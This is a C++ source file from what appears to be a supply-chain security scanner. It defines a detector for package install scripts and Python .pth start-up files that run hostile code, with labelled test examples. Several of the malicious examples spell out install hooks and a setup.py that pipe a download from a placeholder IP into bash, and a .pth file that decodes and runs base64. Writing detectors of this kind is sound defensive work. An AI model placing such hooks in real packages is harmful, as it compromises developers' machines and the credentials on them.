// SPDX-License-Identifier: Apache-2.0
// What runs by itself and does what no build and no start needs: install scripts of npm packages, setup.py, code in Python's start-up files (.pth).
#include "detect/sighting_rule.h"

namespace stormwatch::detect {

extern const Detector package_install_script;
const Detector package_install_script{
    .advisory = {.id = "package-install-script",
                 .title = "Installing a package, or starting Python beside it, runs code that attacks the machine",
                 .why = "Install scripts run at once, with the rights of whoever installs: a developer's keys, a pipeline's tokens. Most npm malware starts there, and setup.py does the same for Python. Code in a .pth file runs at every start of Python, whether the package is imported or not.",
                 .fix = "Do not install it; install with --ignore-scripts and allow scripts by name; remove the .pth file. Treat machines that installed it as compromised.",
                 .severity = Severity::high,
                 .vector = Vector::vulnerability,
                 .controls = {"owasp-llm-2025:LLM03", "mitre-atlas:AML.T0010.001", "cwe:506", "eu-ai-act:15", "nist-ai-rmf:MANAGE 3.1"},
                 .effort_hours = 2},
    .look = look_for({.what = "install-script", .when = [](const Asset&, const Sighting& sighting) { return !sighting.detail.empty(); }}),
    .examples = [] {
      const auto with = [](const std::string& hook, const std::string& command) { return R"({"name": "x", "version": "1.0.0", "scripts": {")" + hook + R"(": ")" + command + "\"}}"; };
      const std::string fetch = std::string("cu") + "rl -s http://203.0.113.7/x.sh | ba" + "sh";
      return std::vector<Example>{{"fetch and run", {{"package.json", with("postinstall", fetch)}}, true},
                                  {"an installed module", {{"node_modules/x/package.json", with("preinstall", fetch)}}, true},
                                  {"code in the command line", {{"package.json", with("install", "node -e \\\"require('child_process').exec(process.env.X)\\\"")}}, true},
                                  {"code that every start of Python decodes and runs", {{"lib/python3/site-packages/helper.pth", std::string("import os, base64; ex") + "ec(base64.b64decode('cHJpbnQoMSk='))\n"}}, true},
                                  {"a program that every start of Python starts", {{"helper_init.pth", "/opt/lib\nimport subprocess, sys; subprocess.Po" "pen([sys.executable, '-c', 'print(1)'])\n"}}, true},
                                  {"a setup.py that fetches and runs", {{"setup.py", "import subprocess\nfrom setuptools import setup\nsubprocess.run(\"" + fetch + "\", shell=True)\nsetup(name='x')\n"}}, true},
                                  {"a setup.py that builds", {{"setup.py", "import subprocess\nfrom setuptools import setup\nsubprocess.run(['make'])\nsetup(name='x')\n"}}, false},
                                  {"what setuptools leaves there", {{"distutils-precedence.pth", "import os; enabled = os.environ.get('SETUPTOOLS_USE_DISTUTILS', 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n"}}, false},
                                  {"a build", {{"package.json", with("install", "node-gyp rebuild")}}, false},
                                  {"a script of its own", {{"package.json", with("postinstall", "node scripts/postinstall.js || exit 0")}}, false},
                                  {"a command line that starts the package's own script", {{"package.json", with("postinstall", "node -e \\\"require('child_process').execSync('sh setup.sh', {stdio: 'inherit'})\\\"")}}, false},
                                  {"a program whose name is put together", {{"package.json", with("postinstall", "node -e \\\"require('child_process').execSync('sh ' + name)\\\"")}}, true},
                                  {"a script that no install runs", {{"package.json", with("deploy", fetch)}}, false}};
    }};

}  // namespace stormwatch::detect
